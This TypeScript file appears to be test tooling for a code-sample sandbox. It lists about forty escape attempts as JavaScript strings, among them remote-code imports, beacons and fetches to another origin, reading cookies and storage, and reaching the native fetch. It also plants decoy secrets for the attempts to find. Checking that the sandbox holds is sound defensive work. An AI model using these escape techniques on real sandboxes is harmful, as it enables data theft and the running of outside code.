/**
 * Ways that code might try out of the place where samples run, as JavaScript for a worker. Each returns when it got out, and throws when not.
 *
 * @param own the site's origin
 * @param other the origin of another server
 */
export function waysOut(own: string, other: string): Record<string, string> {
  const here = JSON.stringify(`${own}/runner/en.json`);
  const there = JSON.stringify(`${other}/`);
  const socket = JSON.stringify(other.replace('http', 'ws'));
  const hear = (made: string): string =>
    `await new Promise((got, not) => { const it = ${made}; it.onopen = it.onload = it.onmessage = got; it.onerror = not; setTimeout(not, 1000); })`;
  return {
    'fetch of another host': `await fetch(${there})`,
    'fetch of another host without CORS': `await fetch(${there}, { mode: 'no-cors' })`,
    'fetch of a host that looks like the sandbox': `await fetch('http://127.0.0.1:4010.localhost/api/v1/items')`,
    'fetch of the site': `await fetch(${here})`,
    'the browser’s own fetch, another host': `await browserFetch(${there}, { mode: 'no-cors' })`,
    'the browser’s own fetch, the site': `await browserFetch(${here}, { mode: 'no-cors' })`,
    parent: `parent.document.title`,
    top: `top.location.href`,
    opener: `opener.document.title`,
    document: `document.body.innerHTML`,
    localStorage: `localStorage.getItem('x')`,
    sessionStorage: `sessionStorage.getItem('x')`,
    cookies: `document.cookie`,
    cookieStore: `await cookieStore.getAll()`,
    IndexedDB: `await new Promise((got, not) => { const it = indexedDB.open('sandbox /'); it.onsuccess = got; it.onerror = not; })`,
    caches: `await caches.keys()`,
    'the file system of the origin': `await navigator.storage.getDirectory()`,
    'a service worker': `await navigator.serviceWorker.register(${JSON.stringify(`${own}/sandbox-worker.js`)})`,
    'import of remote code': `await import(${JSON.stringify(`${other}/code.js`)})`,
    'import of the site’s code': `await import(${JSON.stringify(`${own}/sandbox-worker.js`)})`,
    'import of data: code': `await import('data:text/javascript,export default 1')`,
    importScripts: `importScripts(${JSON.stringify(`${other}/code.js`)})`,
    eval: `(0, eval)('1')`,
    'new Function': `new Function('return 1')()`,
    navigation: `location.assign(${there})`,
    'navigation by assignment': `const before = location.href; location.href = ${there}; if (location.href === before) throw new Error('still here')`,
    'a popup': `open(${there}).closed`,
    XMLHttpRequest: hear(
      `(() => { const it = new XMLHttpRequest(); it.open('GET', ${there}); it.send(); return it; })()`,
    ),
    WebSocket: hear(`new WebSocket(${socket})`),
    EventSource: hear(`new EventSource(${there})`),
    WebTransport: `await new WebTransport(${JSON.stringify(other.replace('http:', 'https:'))}).ready`,
    'a beacon': `if (!navigator.sendBeacon(${there}, 'x')) throw new Error('not sent')`,
    'a nested worker with remote code': hear(`new Worker(${JSON.stringify(`${other}/code.js`)})`),
    'a shared worker': hear(`new SharedWorker(${JSON.stringify(`${own}/sandbox-worker.js`)}).port`),
    'a broadcast to the site': `await new Promise((got, not) => { const it = new BroadcastChannel('out'); it.onmessage = got; it.postMessage('from inside'); setTimeout(() => not(new Error('nobody answers')), 500); })`,
    'a picture': `new Image().src = ${there}`,
    'a blob’s module that fetches': `await import(URL.createObjectURL(new Blob(['await fetch(' + ${JSON.stringify(there)} + ', { mode: "no-cors" })'], { type: 'text/javascript' })))`,
  };
}

/** In the browser: what a sample must not reach is there, and who hears something from inside says so. */
export function setTraps(): void {
  localStorage.setItem('x', 'secret');
  sessionStorage.setItem('x', 'secret');
  document.cookie = 'x=secret';
  new BroadcastChannel('out').onmessage = ({ target }) => (target as BroadcastChannel).postMessage('heard');
  addEventListener('message', () => document.body.setAttribute('data-forged', ''));
}

/** A sample that tries all of them: it prints each that got out, and how many it tried. */
export function sampleThatTries(ways: Record<string, string>): string {
  return `const tell = (way) => console.log('OUT: ' + way);
const done = (all) => console.log('tried ' + all);
${tryAll(ways)}`;
}

/** Code for the frame that tries all of them, without the worker that samples run in; see {@link runInFrame}. */
export function frameThatTries(ways: Record<string, string>): string {
  return `addEventListener('message', async ({ ports: [port] }) => {
const out = [];
const tell = (way) => out.push(way);
const done = (all) => port.postMessage({ out, all });
${tryAll(ways)}
}, { once: true });`;
}

/** In the browser: runs code in the frame of the samples, and gives what it tells of itself. */
export async function runInFrame(script: string): Promise<unknown> {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = '/runner/frame/';
  document.body.append(frame);
  await new Promise((resolve) => frame.addEventListener('load', resolve));
  const [code, start] = [new MessageChannel(), new MessageChannel()];
  frame.contentWindow!.postMessage({ kind: 'code', code: script }, '*', [code.port2]);
  const told = new Promise<unknown>((resolve) => {
    start.port1.onmessage = ({ data }) => resolve(data);
  });
  frame.contentWindow!.postMessage({ kind: 'start', run: 1, start: null }, '*', [start.port2]);
  return told;
}

/** JavaScript that tries all of them, and calls `tell(name)` for each that got out, and `done(count)` at the end. */
function tryAll(ways: Record<string, string>): string {
  const attempts = Object.entries(ways).map(
    ([name, code]) => `
try { await (async () => { ${code}; })(); tell(${JSON.stringify(name)}); } catch {}
count += 1;`,
  );
  return `let count = 0;
let scope = globalThis;
while (scope && !Object.hasOwn(Object.getPrototypeOf(scope) ?? {}, 'fetch')) scope = Object.getPrototypeOf(scope);
const browserFetch = (scope ? Object.getPrototypeOf(scope).fetch : fetch).bind(globalThis);
${attempts.join('\n')}
done(count);`;
}
